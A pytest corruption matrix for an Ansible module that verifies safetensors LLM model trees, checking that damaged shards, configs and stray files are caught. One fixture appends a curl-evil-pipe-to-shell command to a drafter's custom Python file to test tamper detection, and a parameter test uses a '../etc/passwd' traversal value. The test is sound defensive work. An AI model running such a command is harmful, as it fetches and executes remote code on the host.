# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The corruption matrix: each case breaks a fresh copy of the Kimi-shaped target or drafter in one
way and asserts that model_verify catches it in the modes it must, with a message naming the file.

Structure, metadata and config cases must be caught by quick, full and auto; cases that change only
tensor bytes (bit flip, same-size corruption) by full and auto. Real safetensors files, real
hashing, a real (loopback) HTTP server for the Hub source: nothing mocked.
"""
from __future__ import annotations

import json
import os
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from safetensors.numpy import save_file

from ansible_collections.gpufleet.llm.plugins.module_utils._verify import expect as _expect
from ansible_collections.gpufleet.llm.plugins.module_utils._modeltree import manifest as _manifest
from ansible_collections.gpufleet.llm.plugins.module_utils._verify import safetensors as _safetensors
from ansible_collections.gpufleet.llm.plugins.module_utils._verify import verify as _verify
from ansible_collections.gpufleet.llm.plugins.module_utils._verify import hashes as vh
from ansible_collections.gpufleet.llm.plugins.module_utils._verify import steps as vs
from ansible_collections.gpufleet.llm.tests.unit.plugins.module_utils.fixtures import model_trees as mt

ALL = ("quick", "full", "auto")
BYTES_ONLY = ("full", "auto")
S1, S2, S3, S4 = (mt.shard_name(i) for i in range(1, 5))
INDEX = "model.safetensors.index.json"


def _header_len(path):
    with open(path, "rb") as handle:
        return int.from_bytes(handle.read(8), "little")


def _patch(path, offset, data):
    with open(path, "r+b") as handle:
        handle.seek(offset)
        handle.write(data)


def _edit_json(path, change):
    with open(path) as handle:
        data = json.load(handle)
    change(data)
    with open(path, "w") as handle:
        json.dump(data, handle, indent=2)


# --- corruptions: fn(target, drafter, outside_dir) -> None ----------------------------------------

def missing_shard(t, d, out):
    os.unlink(os.path.join(t, S2))


def extra_shard(t, d, out):
    shutil.copy(os.path.join(t, S1), os.path.join(t, mt.shard_name(5)))


def truncated_shard(t, d, out):
    p = os.path.join(t, S3)
    os.truncate(p, os.path.getsize(p) - 100)


def trailing_bytes(t, d, out):
    with open(os.path.join(t, S3), "ab") as handle:
        handle.write(b"\0" * 16)


def header_len_huge(t, d, out):
    _patch(os.path.join(t, S1), 0, (1 << 40).to_bytes(8, "little"))


def header_len_zero(t, d, out):
    _patch(os.path.join(t, S1), 0, (0).to_bytes(8, "little"))


def header_not_json(t, d, out):
    p = os.path.join(t, S2)
    _patch(p, 8, b"[not json!")


def header_not_utf8(t, d, out):
    p = os.path.join(t, S2)
    _patch(p, 9, b"\xff\xfe")


def bit_flip(t, d, out):
    p = os.path.join(t, S4)
    off = 8 + _header_len(p) + 5
    with open(p, "r+b") as handle:
        handle.seek(off)
        byte = handle.read(1)[0]
        handle.seek(off)
        handle.write(bytes([byte ^ 0x10]))


def same_size_corruption(t, d, out):
    p = os.path.join(t, S1)
    off = 8 + _header_len(p)
    with open(p, "r+b") as handle:
        handle.seek(off)
        data = handle.read(64)
        handle.seek(off)
        handle.write(bytes(b ^ 0xFF for b in data))


def swapped_shards(t, d, out):
    a, b = os.path.join(t, S2), os.path.join(t, S3)
    assert os.path.getsize(a) == os.path.getsize(b), "fixture: shards 2 and 3 must have the same size"
    os.rename(a, a + ".swap")
    os.rename(b, a)
    os.rename(a + ".swap", b)


def tensor_missing_from_shard(t, d, out):
    tensors = mt.target_shards()[S2]
    tensors.pop(sorted(tensors)[0])
    save_file(tensors, os.path.join(t, S2), metadata={"format": "pt"})


def tensor_wrong_shard(t, d, out):
    def change(index):
        name = next(k for k, v in sorted(index["weight_map"].items()) if v == S1)
        index["weight_map"][name] = S2
    _edit_json(os.path.join(t, INDEX), change)


def total_size_off_by_one(t, d, out):
    _edit_json(os.path.join(t, INDEX), lambda index: index["metadata"].update(total_size=index["metadata"]["total_size"] + 1))


def stale_aria2(t, d, out):
    with open(os.path.join(t, S2 + ".aria2"), "wb") as handle:
        handle.write(b"\x00\x01aria2 control")


def hf_incomplete(t, d, out):
    cache = os.path.join(t, ".cache", "huggingface", "download")
    os.makedirs(cache)
    with open(os.path.join(cache, "abc123." + S3 + ".incomplete"), "wb") as handle:
        handle.write(b"partial")


def config_missing(t, d, out):
    os.unlink(os.path.join(t, "config.json"))


def config_invalid(t, d, out):
    with open(os.path.join(t, "config.json"), "w") as handle:
        handle.write('{"model_type": "kimi_k25",')


def drafter_hidden(t, d, out):
    _edit_json(os.path.join(d, "config.json"), lambda c: c.update(hidden_size=4096))


def drafter_vocab(t, d, out):
    _edit_json(os.path.join(d, "config.json"), lambda c: c.update(vocab_size=151936))


def drafter_layer_ids(t, d, out):
    _edit_json(os.path.join(d, "config.json"), lambda c: c["dflash_config"].update(target_layer_ids=[1, 30, 61]))


def dflash_py_changed(t, d, out):
    with open(os.path.join(d, "dflash.py"), "a") as handle:
        handle.write("import os; os.system('curl evil | sh')\n")


def symlink_outside(t, d, out):
    outside = os.path.join(out, "elsewhere.safetensors")
    shutil.copy(os.path.join(t, S1), outside)
    os.unlink(os.path.join(t, S1))
    os.symlink(outside, os.path.join(t, S1))


def zero_byte_shard(t, d, out):
    os.truncate(os.path.join(t, S4), 0)


# (case, break it, which tree is verified, extra kwargs, modes that must catch, substrings of a problem line)
MATRIX = [
    ("missing shard", missing_shard, "target", {}, ALL, [S2, "missing"]),
    ("extra unreferenced shard", extra_shard, "target", {}, ALL, [mt.shard_name(5), "does not reference"]),
    ("truncated shard", truncated_shard, "target", {}, ALL, [S3, "truncated", "100 bytes missing"]),
    ("trailing bytes", trailing_bytes, "target", {}, ALL, [S3, "16 trailing bytes"]),
    ("header length huge", header_len_huge, "target", {}, ALL, [S1, "header length field says 1099511627776"]),
    ("header length zero", header_len_zero, "target", {}, ALL, [S1, "header length field is 0"]),
    ("header not JSON", header_not_json, "target", {}, ALL, [S2, "header is not JSON"]),
    ("header not UTF-8", header_not_utf8, "target", {}, ALL, [S2, "header is not UTF-8"]),
    ("bit flip", bit_flip, "target", {}, BYTES_ONLY, [S4, "sha256"]),
    ("same-size corruption", same_size_corruption, "target", {}, BYTES_ONLY, [S1, "sha256"]),
    ("two same-size shards swapped", swapped_shards, "target", {}, ALL, [S2, S3, "are in"]),
    ("tensor missing from its shard", tensor_missing_from_shard, "target", {}, ALL, [S2, "not in its header"]),
    ("tensor mapped to the wrong shard", tensor_wrong_shard, "target", {}, ALL, [S2, "are in " + S1 + " instead"]),
    ("stale .aria2", stale_aria2, "target", {}, ALL, [S2 + ".aria2", "aria2 control file"]),
    ("hf .incomplete", hf_incomplete, "target", {}, ALL, [S3 + ".incomplete", "huggingface_hub"]),
    ("config expectation mismatch", None, "target", {"expect": {"text_config.num_hidden_layers": 60}}, ALL,
     ["config.json", "text_config.num_hidden_layers == 60, got 61"]),
    ("config missing", config_missing, "target", {}, ALL, ["config.json is missing"]),
    ("config invalid JSON", config_invalid, "target", {}, ALL, ["config.json is not valid JSON"]),
    ("drafter hidden size", drafter_hidden, "drafter", {"target": True}, ALL, ["config.json", "hidden_size is 4096"]),
    ("drafter vocab size", drafter_vocab, "drafter", {"target": True}, ALL, ["config.json", "vocab_size is 151936"]),
    ("drafter target_layer_ids", drafter_layer_ids, "drafter", {"target": True}, ALL,
     ["config.json", "target_layer_ids [61] outside [0, 61)"]),
    ("dflash.py changed after fetch", dflash_py_changed, "drafter", {}, ALL, ["dflash.py", "trust_remote_code"]),
    ("shard symlinked outside the tree", symlink_outside, "target", {}, ALL, [S1, "symlink", "outside"]),
    ("zero-byte shard", zero_byte_shard, "target", {}, ALL, [S4, "zero-byte"]),
]


def _run(tree, target, kwargs, mode, **extra):
    kw = dict(kwargs)
    if kw.pop("target", None):
        kw["target"] = target
    kw.update(extra)
    return _verify.verify(tree, mode=mode, **kw)


@pytest.mark.parametrize("mode", ALL)
@pytest.mark.parametrize("case,corrupt,which,kwargs,catch,needles", MATRIX, ids=[m[0] for m in MATRIX])
def test_corruption_matrix(golden, tmp_path, case, corrupt, which, kwargs, catch, needles, mode):
    target, drafter = mt.fresh_copy(golden, str(tmp_path / "models"))
    if mode == "auto":
        # auto is about re-checks: the tree was verified before it broke.
        baseline = _verify.verify(target if which == "target" else drafter, mode="full")
        assert baseline["ok"], baseline["problems"]
    outside = str(tmp_path / "outside")
    os.makedirs(outside)
    if corrupt:
        corrupt(target, drafter, outside)
    tree = target if which == "target" else drafter
    res = _run(tree, target, kwargs, mode)
    if mode in catch:
        assert not res["ok"], "%s not caught in %s mode: %s" % (case, mode, res["checks"])
        hits = [p for p in res["problems"] if all(n in p for n in needles)]
        assert hits, "%s in %s mode: no problem line has %s: %s" % (case, mode, needles, res["problems"])
        failed = [c for c in res["checks"] if c["status"] == "failed"]
        assert failed and all(c["detail"] for c in failed)
    else:
        # quick does not read tensor bytes: a same-size byte change is out of its reach by design.
        assert res["ok"], res["problems"]
        assert not any(S1 in h or S4 in h for h in res["hashed"])


@pytest.mark.parametrize("mode", ALL)
def test_clean_trees_no_false_positive(trees, mode):
    target, drafter = trees
    res = _verify.verify(target, mode=mode, expect={"model_type": "kimi_k25", "text_config.num_hidden_layers": 61,
                                                    "text_config.n_routed_experts": 384.0},
                         require_files=["tokenizer_config.json", "*.model"])
    assert res["ok"], res["problems"]
    assert res["problems"] == [] and res["notices"] == []
    assert [c["status"] for c in res["checks"]] == ["ok"] * len(res["checks"])
    names = {"config", "expect", "require_files", "index", "stray", "headers", "tensors", "total_size", "hashes"}
    assert {c["name"] for c in res["checks"]} >= names
    assert res["shards"] == 4 and res["tensors"] == 1 + 8 * 4 + 2  # embed, 8 layers of 4, norm, head
    assert res["total_size"] > 0 and res["expected_from"] == "manifest" and res["commit"] == "c" * 40
    assert res["config"]["model_type"] == "kimi_k25" and res["config"]["layers"] == 61
    assert res["config"]["experts"] == 384 and res["config"]["hidden_size"] == 7168
    assert res["config"]["vocab_size"] == 163840
    assert res["config"]["architectures"] == ["KimiK25ForConditionalGeneration"]

    dres = _verify.verify(drafter, mode=mode, target=target)
    assert dres["ok"], dres["problems"]
    assert dres["notices"] == []
    assert dres["shards"] == 1 and dres["config"]["dflash"]["block_size"] == 16
    assert any(c["name"] == "dflash" and c["status"] == "ok" for c in dres["checks"])
    # Small files (config, custom code, tokenizer) are hashed in every mode.
    assert "configuration_kimi_k25.py" in res["hashed"] and "dflash.py" in dres["hashed"]
    weights = [h for h in res["hashed"] if h.endswith(".safetensors")]
    if mode == "full":
        assert len(weights) == 4
    else:
        # quick never hashes shards; auto trusts the stat records hf_snapshot left in the manifest.
        assert weights == []


def _weights(res):
    return [h for h in res["hashed"] if h.endswith(".safetensors")]


def test_auto_rehashes_exactly_the_touched_shard(trees):
    target, _drafter = trees
    # No stat records in the manifest (as for a tree whose manifest came from elsewhere): the first
    # auto run hashes everything and records it.
    mt.write_manifest(target, with_stat=False)
    first = _verify.verify(target, mode="auto")
    assert first["ok"] and sorted(_weights(first)) == [S1, S2, S3, S4]
    again = _verify.verify(target, mode="auto")
    assert again["ok"] and _weights(again) == [] and again["cached"] == 4
    os.utime(os.path.join(target, S3))  # touch
    touched = _verify.verify(target, mode="auto")
    assert touched["ok"] and _weights(touched) == [S3] and touched["cached"] == 3
    shard_bytes = os.path.getsize(os.path.join(target, S3))
    small = sum(os.path.getsize(os.path.join(target, h)) for h in touched["hashed"] if h != S3)
    assert touched["bytes_hashed"] == shard_bytes + small
    assert _weights(_verify.verify(target, mode="auto")) == []


def test_auto_catches_bytes_rewritten_with_mtime_restored(trees):
    target, _drafter = trees
    assert _verify.verify(target, mode="full")["ok"]
    p = os.path.join(target, S2)
    st = os.stat(p)
    same_size_corruption_at(p)
    os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))  # hide the write from mtime; ctime still moves
    for dummy in range(2):  # and again: a failed file stays failed, run after run
        res = _verify.verify(target, mode="auto")
        assert not res["ok"] and any(S2 in x and "sha256" in x for x in res["problems"])


def same_size_corruption_at(path):
    off = 8 + _header_len(path)
    with open(path, "r+b") as handle:
        handle.seek(off)
        handle.write(b"\x55" * 8)


def test_check_mode_writes_nothing(trees):
    target, _drafter = trees
    statcache = os.path.join(target, ".gpufleet", "statcache.json")
    before = sorted(os.listdir(os.path.join(target, ".gpufleet")))
    res = _verify.verify(target, mode="full", check_mode=True)
    assert res["ok"] and not os.path.exists(statcache)
    assert sorted(os.listdir(os.path.join(target, ".gpufleet"))) == before
    _verify.verify(target, mode="full")
    cache = _manifest.read_statcache(target)
    assert sorted(cache) == [S1, S2, S3, S4] and all(len(v["sha256"]) == 64 for v in cache.values())


def test_model_files_never_modified(trees):
    target, _drafter = trees
    tables = mt.file_table(target)
    for mode in ALL:
        _verify.verify(target, mode=mode)
    assert mt.file_table(target) == tables


def test_no_manifest(trees):
    target, _drafter = trees
    shutil.rmtree(os.path.join(target, ".gpufleet"))
    quick = _verify.verify(target, mode="quick")
    assert quick["ok"] and any("no expected hashes" in n for n in quick["notices"])
    for mode in BYTES_ONLY:
        res = _verify.verify(target, mode=mode)
        assert not res["ok"] and any("no expected hashes" in p and "hf_snapshot" in p for p in res["problems"])


def test_missing_small_file_and_size_change_named(trees):
    target, _drafter = trees
    os.unlink(os.path.join(target, "tiktoken.model"))
    with open(os.path.join(target, "generation_config.json"), "a") as handle:
        handle.write(" ")
    res = _verify.verify(target, mode="quick")
    assert any("tiktoken.model is missing" in p for p in res["problems"])
    assert any("generation_config.json is" in p and "bytes" in p for p in res["problems"])


def test_every_problem_listed_not_only_the_first(trees):
    target, drafter = trees
    missing_shard(target, drafter, None)
    stale_aria2(target, drafter, None)
    total_size_off_by_one(target, drafter, None)  # the index's bytes change: its hash names it
    res = _verify.verify(target, mode="quick", expect={"model_type": "deepseek_v3"})
    msg = _verify.failure_message(res)
    for needle in (S2 + " is missing", ".aria2", "model_type == \"deepseek_v3\"", INDEX):
        assert needle in msg, msg
    assert len(res["problems"]) >= 4


def test_allow_stray_reports_without_failing(trees):
    target, _drafter = trees
    extra_shard(target, None, None)
    res = _verify.verify(target, mode="quick", allow_stray=True)
    assert res["ok"], res["problems"]
    assert any(mt.shard_name(5) in n for n in res["notices"])
    # issue 10 item 12: a partial download is never covered by allow_stray.
    stale_aria2(target, None, None)
    res = _verify.verify(target, mode="quick", allow_stray=True)
    assert not res["ok"] and any(".aria2" in p for p in res["problems"])


def test_missing_path_and_bad_target(tmp_path, trees):
    res = _verify.verify(str(tmp_path / "nope"), mode="quick")
    assert not res["ok"] and "does not exist" in res["problems"][0]
    _target, drafter = trees
    res = _verify.verify(drafter, mode="quick", target=str(tmp_path / "nope"))
    assert any("target" in p and "does not exist" in p for p in res["problems"])


def test_not_a_drafter_against_target(trees):
    target, _drafter = trees
    res = _verify.verify(target, mode="quick", target=target)
    assert any("is not a DFlash drafter config" in p for p in res["problems"])


@pytest.mark.parametrize("kwargs,needle", [
    ({"mode": "fast"}, "mode must be one of"),
    ({"expect": {"text_config.[": 1}}, "not valid JMESPath"),
    ({"hash_workers": 0}, "hash_workers"),
    ({"require_files": ["../etc/passwd"]}, "require_files"),
    ({"revision": "main"}, "only apply with repo_id"),
    # issue 10 item 4: the listing's HTTP options, checked as hf_snapshot checks them
    ({"proxy": "http://proxy:3128"}, "proxy only apply with repo_id"),
    ({"ca_path": "/etc/ssl/certs/ca-certificates.crt"}, "ca_path only apply with repo_id"),
    ({"validate_certs": False}, "validate_certs only apply with repo_id"),
    ({"repo_id": "org/m", "proxy": "socks5://proxy:1080"}, "proxy must be an http://"),
    ({"repo_id": "org/m", "proxy": "http://user:s3cr3t@[::1:3128"}, "proxy is not a valid http://"),
    ({"repo_id": "org/m", "proxy": "http://proxy:port"}, "proxy is not a valid http://"),
    ({"repo_id": "org/m", "proxy": "http://proxy:99999"}, "proxy is not a valid http://"),
    ({"repo_id": "org/m", "ca_path": "/nonexistent/ca.pem"}, "ca_path /nonexistent/ca.pem does not exist"),
    ({"repo_id": "org/m", "timeout": 0}, "timeout must be a whole number of seconds of at least 1"),
    ({"timeout": -5}, "timeout must be"),
])
def test_bad_parameters(kwargs, needle):
    with pytest.raises(_verify.ParamError, match=needle.replace("[", r"\[")):
        _verify.check_params(**kwargs)


# --- the options, defined once: argument_spec() is the module's and the Python callers' ----------------

def test_options_come_from_the_argument_spec():
    spec = _verify.argument_spec()
    opts = _verify.options()
    assert opts._fields == tuple(spec)
    for name, entry in spec.items():
        assert getattr(opts, name) == entry.get("default"), name
    assert opts.mode == "auto" and opts.allow_stray is False and opts.fail_on_problem is True
    assert spec["mode"]["choices"] == list(_verify.MODES) and spec["token"]["no_log"] is True
    assert _verify.options(mode="full").mode == "full"
    with pytest.raises(TypeError, match="no option lock_timeout"):
        _verify.options(lock_timeout=3)
    with pytest.raises(TypeError, match="no option nope"):
        _verify.check_params(nope=1)
    assert _verify.check_params() == []


def test_errors_carry_their_fail_json_kwargs(monkeypatch):
    assert issubclass(_verify.ParamError, ValueError) and issubclass(_verify.ParamError, _verify.VerifyError)
    with pytest.raises(_verify.ParamError) as err:
        _verify.check_params(mode="fast")
    assert err.value.fail_kwargs() == {"msg": str(err.value)} and "mode must be one of" in str(err.value)
    missing = _verify.MissingLibrary("jmespath", "Traceback: no jmespath")
    assert missing.fail_kwargs() == {"msg": str(missing), "exception": "Traceback: no jmespath"}
    assert "jmespath" in str(missing)
    monkeypatch.setattr(_expect, "HAS_JMESPATH", False)
    params = dict(_verify.options(path="/nonexistent", expect={"a": 1})._asdict())
    with pytest.raises(_verify.MissingLibrary, match="jmespath"):
        _verify.run_module(params, check_mode=False)


def test_run_module_is_verify_with_changed_false(trees):
    target, _drafter = trees
    params = dict(_verify.options(path=target, mode="quick", expect={"model_type": "kimi_k25"})._asdict())
    res = _verify.run_module(params, check_mode=True)
    assert res["ok"] and res["changed"] is False and res["mode"] == "quick" and res["expect"]
    params["revision"] = "main"
    with pytest.raises(_verify.ParamError, match="only apply with repo_id"):
        _verify.run_module(params, check_mode=True)


# --- each step on its own ------------------------------------------------------------------------------

def _names(report):
    return [(c["name"], c["status"]) for c in report.checks]


def test_step_config(trees, tmp_path):
    target, drafter = trees
    report = vs.Report()
    config, fields = vs.check_config(report, target, _expect.compile_expectations({"model_type": "kimi_k25"}))
    assert config["model_type"] == "kimi_k25" and fields["config"]["layers"] == 61
    assert fields["expect"][0]["expression"] == "model_type" and _names(report) == [("config", "ok"), ("expect", "ok")]
    report = vs.Report()
    config, fields = vs.check_config(report, drafter, [])
    assert fields["config"]["dflash"]["block_size"] == 16 and _names(report) == [("config", "ok")]
    report = vs.Report()
    config, fields = vs.check_config(report, str(tmp_path), _expect.compile_expectations({"model_type": "x"}))
    assert config is None and fields == {} and _names(report) == [("config", "failed"), ("expect", "skipped")]
    assert report.problems == ["config.json is missing in %s; re-fetch it (hf_snapshot)" % tmp_path]


def test_step_required_files(trees):
    target, _drafter = trees
    report = vs.Report()
    vs.check_required_files(report, target, target, None)
    assert report.checks == []
    vs.check_required_files(report, target, target, ["*.model", "nothing-*.json"])
    assert _names(report) == [("require_files", "failed")] and len(report.problems) == 1
    assert "'nothing-*.json'" in report.problems[0]


def test_step_layout(trees, tmp_path):
    target, drafter = trees
    report = vs.Report()
    layout = vs.check_layout(report, target, target)
    assert layout.kind == "index" and layout.shard_rels == [S1, S2, S3, S4] and layout.total_size > 0
    assert len(layout.weight_map) == 1 + 8 * 4 + 2 and not layout.index_unusable
    single = vs.check_layout(report, drafter, drafter)
    assert single.kind == "single" and single.shard_rels == ["model.safetensors"] and single.weight_map is None
    none = vs.check_layout(report, str(tmp_path), str(tmp_path))
    assert none == vs.Layout(kind=None, weight_map=None, total_size=None, shard_rels=[])
    with open(os.path.join(target, INDEX), "w") as handle:
        handle.write("{")
    broken = vs.check_layout(report, target, target)
    assert broken.index_unusable and broken.shard_rels == []
    assert [s for _n, s in _names(report)] == ["ok", "ok", "failed", "failed"]


def test_step_strays():
    layout = vs.Layout(kind="index", weight_map={"t": "a.safetensors"}, total_size=None, shard_rels=["a.safetensors"])
    files = ["a.safetensors", "b.safetensors", "a.safetensors.aria2", "x.incomplete", "y.part", "config.json"]
    report = vs.Report()
    vs.check_strays(report, layout, files, allow_stray=False)
    assert _names(report) == [("stray", "failed")] and len(report.problems) == 4
    # One line per stray, in the files' order.
    assert "b.safetensors: a .safetensors file" in report.problems[0] and "stale aria2 control file" in report.problems[1]
    assert "huggingface_hub" in report.problems[2] and "y.part: partial download" in report.problems[3]
    report = vs.Report()
    vs.check_strays(report, layout, files, allow_stray=True)
    # issue 10 item 12: allow_stray tolerates the complete extra shard only, never a partial.
    assert _names(report) == [("stray", "failed")] and len(report.warnings) == 1 and len(report.problems) == 3
    # An index that did not parse names no shard: only partials are strays then.
    unusable = vs.Layout(kind="index", weight_map=None, total_size=None, shard_rels=[])
    report = vs.Report()
    vs.check_strays(report, unusable, files, allow_stray=False)
    assert len(report.problems) == 3 and not any("b.safetensors" in p for p in report.problems)
    report = vs.Report()
    vs.check_strays(report, layout, ["a.safetensors", "config.json"], allow_stray=False)
    assert report.checks == [{"name": "stray", "status": "ok",
                              "detail": "2 files in the tree, no partials or unreferenced shards"}]


def test_step_headers_and_tensors(trees):
    target, _drafter = trees
    truncated_shard(target, None, None)
    report = vs.Report()
    layout = vs.check_layout(report, target, target)
    parsed, flagged = vs.check_headers(report, target, layout)
    assert sorted(parsed) == [S1, S2, S4] and flagged == {S3}
    fields = vs.check_tensors(report, layout, parsed)
    # Not every shard parsed: no total_size in the result, its check skipped.
    assert fields == {"tensors": len(layout.weight_map)}
    assert _names(report) == [("index", "ok"), ("headers", "failed"), ("tensors", "ok"), ("total_size", "skipped")]
    report = vs.Report()
    empty = vs.Layout(kind=None, weight_map=None, total_size=None, shard_rels=[])
    assert vs.check_headers(report, target, empty) == ({}, set())
    assert vs.check_tensors(report, empty, {}) == {}
    assert _names(report) == [("headers", "skipped")]


def test_step_tensors_total_size(trees):
    target, drafter = trees
    report = vs.Report()
    layout = vs.check_layout(report, target, target)
    parsed, _flagged = vs.check_headers(report, target, layout)
    fields = vs.check_tensors(report, layout, parsed)
    assert fields["total_size"] == layout.total_size == sum(s.data_len for s in parsed.values())
    no_total = vs.Layout(kind="index", weight_map=layout.weight_map, total_size=None, shard_rels=layout.shard_rels)
    vs.check_tensors(report, no_total, parsed)
    assert report.checks[-1]["status"] == "warn" and "no metadata.total_size" in report.warnings[-1]
    single_report = vs.Report()
    single = vs.check_layout(single_report, drafter, drafter)
    parsed, _flagged = vs.check_headers(single_report, drafter, single)
    fields = vs.check_tensors(single_report, single, parsed)
    assert fields["tensors"] == len(parsed["model.safetensors"].tensors) and fields["total_size"] > 0
    assert single_report.checks[-1]["detail"].startswith("single-file model:")


def test_step_drafter(trees, tmp_path):
    target, drafter = trees
    config, _problem = vs.read_config(drafter)
    report = vs.Report()
    fields = vs.check_drafter(report, config, target)
    assert fields["target_config"]["layers"] == 61 and _names(report) == [("dflash", "ok")]
    assert vs.check_drafter(report, None, target) == {} and report.checks[-1]["status"] == "skipped"
    assert vs.check_drafter(report, config, str(tmp_path / "nope")) == {}
    assert "does not exist" in report.problems[-1]
    assert vs.check_drafter(report, config, str(tmp_path)) == {}  # a directory without config.json
    assert report.problems[-1].startswith("target %s: " % tmp_path) and "config.json is missing" in report.problems[-1]


def _tree(root, flagged=()):
    report = vs.Report()
    layout = vs.check_layout(report, root, root)
    return vh.Tree(root=root, path=root, files=_safetensors.walk_files(root), shard_rels=layout.shard_rels,
                   flagged=frozenset(flagged))


def test_step_hashes_takes_a_tree_and_keyword_options(trees):
    target, _drafter = trees
    tree = _tree(target)
    with pytest.raises(TypeError):
        vh.check_hashes(vs.Report(), tree, "full")  # pylint: disable=too-many-function-args,missing-kwoa
    report = vs.Report()
    fields = vh.check_hashes(report, tree, mode="full", hash_workers=2)
    assert fields["expected_from"] == "manifest" and fields["commit"] == "c" * 40
    assert sorted(h for h in fields["hashed"] if h.endswith(".safetensors")) == [S1, S2, S3, S4]
    assert fields["files_checked"] == len(mt.file_table(target)) and fields["cached"] == 0
    assert _names(report) == [("hashes", "ok")] and report.checks[0]["detail"].startswith("the manifest commit ")
    # Written outside check mode; the next auto run is vouched for by it.
    assert sorted(_manifest.read_statcache(target)) == [S1, S2, S3, S4]
    auto = vh.check_hashes(vs.Report(), tree, mode="auto")
    assert auto["cached"] == 4 and not [h for h in auto["hashed"] if h.endswith(".safetensors")]
    # A file an earlier step flagged is not hashed again.
    flagged = vh.check_hashes(vs.Report(), _tree(target, flagged=[S2]), mode="full", check_mode=True)
    assert S2 not in flagged["hashed"] and S1 in flagged["hashed"]


def test_step_hashes_without_expected_hashes(trees):
    target, _drafter = trees
    shutil.rmtree(os.path.join(target, ".gpufleet"))
    report = vs.Report()
    assert vh.check_hashes(report, _tree(target), mode="quick") == {}
    assert _names(report) == [("hashes", "warn")] and "quick mode: structure only" in report.warnings[0]
    report = vs.Report()
    assert vh.load_expected(report, _tree(target), mode="full", manifest=None, repo_id=None, revision=None,
                            endpoint=None, token=None) is None
    assert _names(report) == [("hashes", "failed")] and "or use mode=quick" in report.problems[0]


def test_hash_run_sorts_files_by_what_vouches_for_them(trees):
    target, _drafter = trees
    tree = _tree(target)
    expected, commit = vh.expected_from_manifest(os.path.join(target, ".gpufleet", "manifest.json"))
    source = vh.Source("manifest", "the manifest", expected, commit)
    quick = vh.HashRun(tree, source, mode="quick", statcache={})
    quick.plan()
    assert quick.to_sha and not any(rel.endswith(".safetensors") for rel, *_rest in quick.to_sha)
    # auto with no record of ours: the manifest's stat records (hf_snapshot's, without ctime) vouch.
    auto = vh.HashRun(tree, source, mode="auto", statcache={})
    auto.plan()
    assert auto.cached == 4 and sorted(auto.new_cache) == [S1, S2, S3, S4]
    assert all(r["verified_by"] == "hf_snapshot" and "ctime_ns" in r for r in auto.new_cache.values())
    # A record of ours whose ctime differs from the file's: hashed, not vouched for.
    stale = {rel: dict(rec, ctime_ns=rec["ctime_ns"] - 1) for rel, rec in auto.new_cache.items()}
    again = vh.HashRun(tree, source, mode="auto", statcache=stale)
    again.plan()
    assert again.cached == 0 and sorted(r[0] for r in again.to_sha if r[3]) == [S1, S2, S3, S4]


# --- expected hashes from the Hub (loopback server speaking the tree API) ---------------------------

class _Hub(BaseHTTPRequestHandler):
    tree = []
    commit = "b" * 40

    def log_message(self, *args):
        pass

    def _json(self, body, status=200):
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        if self.path.startswith("/api/models/org/kimi/revision/"):
            self._json({"id": "org/kimi", "sha": self.commit, "siblings": []})
        elif self.path.startswith("/api/models/org/kimi/tree/%s" % self.commit):
            self._json(self.tree)
        else:
            self.send_response(404)
            self.send_header("X-Error-Code", "RepoNotFound")
            self.send_header("Content-Length", "0")
            self.end_headers()


@pytest.fixture
def hub(trees):
    target, _drafter = trees
    table = mt.file_table(target, with_stat=False)
    entries = []
    for rel, f in sorted(table.items()):
        entry = {"type": "file", "oid": f["hub_id"], "size": f["size"], "path": rel}
        if f["lfs"]:
            entry["lfs"] = {"oid": f["sha256"], "size": f["size"], "pointerSize": 130}
        entries.append(entry)
    _Hub.tree = entries
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hub)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield "http://127.0.0.1:%d" % server.server_address[1]
    server.shutdown()
    server.server_close()


def test_expected_hashes_from_the_hub(trees, hub, monkeypatch):
    monkeypatch.setenv("HF_HUB_DISABLE_TELEMETRY", "1")
    target, _drafter = trees
    shutil.rmtree(os.path.join(target, ".gpufleet"))
    res = _verify.verify(target, mode="full", repo_id="org/kimi", revision="main", endpoint=hub, token=False)
    assert res["ok"], res["problems"]
    assert res["expected_from"] == "hub" and res["commit"] == "b" * 40 and len(_weights(res)) == 4
    # A non-LFS file is checked by its git blob id, in every mode.
    with open(os.path.join(target, "configuration_kimi_k25.py"), "r+") as handle:
        handle.write("#")
    res = _verify.verify(target, mode="quick", repo_id="org/kimi", endpoint=hub, token=False)
    assert any("configuration_kimi_k25.py: git blob id" in p for p in res["problems"])
    bad = _verify.verify(target, mode="quick", repo_id="org/nope", endpoint=hub, token=False)
    assert any("could not list org/nope" in p for p in bad["problems"])
